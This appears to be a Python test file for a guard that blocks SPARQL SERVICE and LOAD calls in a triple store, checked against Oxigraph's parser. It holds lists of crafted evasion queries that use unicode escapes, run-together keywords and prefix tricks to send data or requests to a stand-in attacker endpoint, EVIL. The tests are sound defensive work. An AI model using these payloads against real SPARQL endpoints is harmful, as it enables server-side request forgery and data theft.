"""The SERVICE/LOAD guard against Oxigraph's own parser, on the attacks of the issue and a generated corpus.

The oracle (``tests/support/oracle.py``) is Oxigraph alone: what it parses, and whether evaluating a text makes it
try to open a socket (on a thread the sandbox confines, so the tests reach nothing).
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings

from regiongraph.sparql._guard import RefusedError, canonical, lexical_refusal, parse_refusal
from support.oracle import connects, parses, reads_keyword
from support.shared import conformance
from support.tricky import EVIL, queries, updates

#: Every one of these is a query Oxigraph 0.5 accepts and reads SERVICE in (checked below, not assumed).
ATTACKS = [
    f"SELECT ?secret WHERE {{ BIND(<http://x/\\u0041#> AS ?z) SERVICE <{EVIL}> {{ ?s ?p ?secret }} }}",
    f"SELECT * {{ ?s ?p trueSERVICE <{EVIL}> {{ }} }}",
    f"SELECT * {{ ?s ?p ?o SERVICESILENT<{EVIL}>{{}} }}",
    f"PREFIX : <{EVIL[:-6]}> SELECT * {{ ?s ?p ?o SERVICE:sparql {{}} }}",
    f"PREFIX SERVICEx: <http://a/> PREFIX x: <{EVIL[:-6]}> SELECT * {{ ?s ?p ?o SERVICEx:sparql {{}} }}",
    f"PREFIX ex: <http://a/> SELECT * {{ ?s ?p ex:a.b.SERVICE <{EVIL}> {{}} }}",
    f"PREFIX ex: <http://x:> SELECT * {{ ?s ?p ex:SERVICE <{EVIL}> {{}} }}",
    f"BASE <http://a/> SELECT * {{ ?s ?p ?o FILTER(?o<?x)SERVICE#>\n<{EVIL}>{{}} }}",
    f"BASE <http://a/> SELECT * {{ ?s ?p ?o FILTER(?o<'>')SERVICE <{EVIL}> {{}} BIND('' AS ?z) }}",
    f"SELECT * {{ ?s ?p ?o FILTERregex(?o, 'o') SERVICE <{EVIL}> {{}} }}",
    f"SELECT * {{ ?s ?p 1SERVICE <{EVIL}> {{}} }}",
    f"SELECT * {{ ?s ?p 'o'SERVICE <{EVIL}> {{}} }}",
    f"SELECT * {{ BIND('\\u0027' AS ?a) SERVICE <{EVIL}> {{}} BIND('' AS ?b) }}",
    f'SELECT * {{ BIND("a\\u0022" AS ?a) SERVICE <{EVIL}> {{}} BIND("" AS ?b) }}',
    f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{EVIL}> {{}} }} }}",
]
UPDATE_ATTACKS = [
    f"LOAD<{EVIL}>",
    f"PREFIX x: <{EVIL[:-6]}> LOADx:sparql",
    f"INSERT {{ <a:a> <a:b> ?o }} WHERE {{ SERVICE <{EVIL}> {{ ?s ?p ?o }} }}",
    f"INSERT DATA {{ <a:a> <a:b> '\\u0027' }} ; LOAD <{EVIL}>",
]


def second_layer_refuses(text: str, *, update: bool = False) -> bool:
    """What a remote store's second layer does: canonical text, then Oxigraph's parser on it respelled."""
    try:
        return parse_refusal(canonical(text), update=update) is not None
    except RefusedError:
        return True


EXAMPLES = settings(
    max_examples=500, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None
)


@pytest.mark.parametrize("text", ATTACKS)
def test_every_attack_is_a_service_call_to_oxigraph_and_both_layers_refuse_it(text):
    assert reads_keyword(text) == "SERVICE", "the attack is real"
    assert lexical_refusal(text) is not None
    assert second_layer_refuses(text)


@pytest.mark.parametrize("text", UPDATE_ATTACKS)
def test_every_update_attack_reaches_out_and_both_layers_refuse_it(text):
    assert reads_keyword(text, update=True) and connects(text, update=True), "the attack is real"
    assert lexical_refusal(text, update=True) is not None
    assert second_layer_refuses(text, update=True)


@EXAMPLES
@given(text=queries())
def test_whatever_oxigraph_reads_as_service_the_guard_refuses(text):
    if reads_keyword(text) or connects(text):
        assert lexical_refusal(text) is not None, text
        assert second_layer_refuses(text), text


@EXAMPLES
@given(text=updates())
def test_whatever_oxigraph_reads_as_service_or_load_in_an_update_the_guard_refuses(text):
    if reads_keyword(text, update=True) or connects(text, update=True):
        assert lexical_refusal(text, update=True) is not None, text
        assert second_layer_refuses(text, update=True), text


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None)
@given(text=queries())
def test_canonical_text_means_the_same_to_oxigraph(text):
    """What a remote store is sent: no \\u escape left, and Oxigraph reads it as it reads the original."""
    try:
        plain = canonical(text)
    except RefusedError:  # refused: nothing is sent
        return
    assert "\\u" not in plain and "\\U" not in plain
    assert parses(plain) == parses(text)
    assert (reads_keyword(plain) is None) == (reads_keyword(text) is None)


def test_queries_that_name_service_only_in_strings_iris_names_and_comments_pass():
    for text in (
        f"SELECT * {{ ?s ?p 'SERVICE <{EVIL}> {{}}' }}",
        "SELECT * { ?s a <http://x/service/1> }",
        "PREFIX dcat: <http://www.w3.org/ns/dcat#> SELECT ?s { ?s a dcat:DataService ; dcat:accessService ?x }",
        f"SELECT * {{ ?s ?p ?o }} # SERVICE <{EVIL}> {{}}",
        "SELECT ?service { ?service ?p ?o }",
    ):
        assert parses(text) and reads_keyword(text) is None
        assert lexical_refusal(text) is None and parse_refusal(text) is None, text


def test_the_w3c_suites_queries_that_oxigraph_accepts_all_pass_the_guard():
    """False positives: the W3C SPARQL 1.1 queries (each made to mention SERVICE in a comment) are all read."""
    checked = 0
    for path in sorted(conformance("w3c-sparql11").rglob("*.rq")):
        text = path.read_text(encoding="utf-8") + "\n# SERVICE"
        if parses(text) and reads_keyword(text) is None:
            assert lexical_refusal(text) is None, (path, lexical_refusal(text))
            checked += 1
    assert checked > 200
